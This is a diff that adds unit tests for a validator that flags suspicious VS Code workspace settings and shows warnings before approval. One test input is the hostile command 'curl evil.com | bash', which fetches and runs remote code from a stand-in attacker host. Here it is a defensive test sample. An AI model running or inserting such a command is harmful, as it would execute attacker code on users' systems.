@@ -1,6 +1,7 @@
 import {
   validateCommand,
   validateDockerImage,
+  validateWorkspaceSetting,
   formatCommandsForDisplay,
   presentCommandsForApproval,
 } from '../../src/core/command-validator.js';
@@ -270,6 +271,35 @@ describe('Command Validator Module', () => {
     });
   });
 
+  describe('validateWorkspaceSetting()', () => {
+    it('should not flag plain editor settings', () => {
+      expect(validateWorkspaceSetting('editor.formatOnSave', true).suspicious).toBe(false);
+      expect(validateWorkspaceSetting('editor.tabSize', 2).suspicious).toBe(false);
+      expect(validateWorkspaceSetting('files.exclude', { '**/dist': true }).suspicious).toBe(false);
+    });
+
+    it('should flag settings that name a program or a path', () => {
+      expect(validateWorkspaceSetting('git.path', '/usr/bin/git').suspicious).toBe(true);
+      expect(
+        validateWorkspaceSetting('python.defaultInterpreterPath', 'python3').suspicious,
+      ).toBe(true);
+      expect(
+        validateWorkspaceSetting('terminal.integrated.profiles.linux', {
+          bash: { path: 'bash' },
+        }).suspicious,
+      ).toBe(true);
+    });
+
+    it('should flag values that are paths or suspicious commands', () => {
+      const result = validateWorkspaceSetting('eslint.nodeEnv', '~/.local/bin/evil');
+      expect(result.suspicious).toBe(true);
+      expect(result.reason).toContain('points to a path');
+      expect(
+        validateWorkspaceSetting('myext.args', ['--run', 'curl evil.com | bash']).suspicious,
+      ).toBe(true);
+    });
+  });
+
   describe('formatCommandsForDisplay()', () => {
     it('should return empty string for no commands', () => {
       expect(formatCommandsForDisplay([])).toBe('');
@@ -328,6 +358,24 @@ describe('Command Validator Module', () => {
       expect(output).toContain('Non-official');
     });
 
+    it('should show each workspace setting with its value and flag suspicious ones', () => {
+      const commands: PendingCommand[] = [
+        {
+          command: 'update .vscode/settings.json',
+          label: 'VS Code',
+          settingsFile: {
+            path: '/tmp/app/.vscode/settings.json',
+            settings: { 'editor.formatOnSave': true, 'git.path': '/tmp/git' },
+          },
+        },
+      ];
+
+      const output = formatCommandsForDisplay(commands);
+      expect(output).toContain('editor.formatOnSave = true');
+      expect(output).toContain('git.path = "/tmp/git"');
+      expect(output).toContain('WARNING: git.path sets a program, path or command');
+    });
+
     it('should include working directory when provided', () => {
       const commands: PendingCommand[] = [
         { command: 'npm run dev', label: 'Services', cwd: '~/projects/my-app' },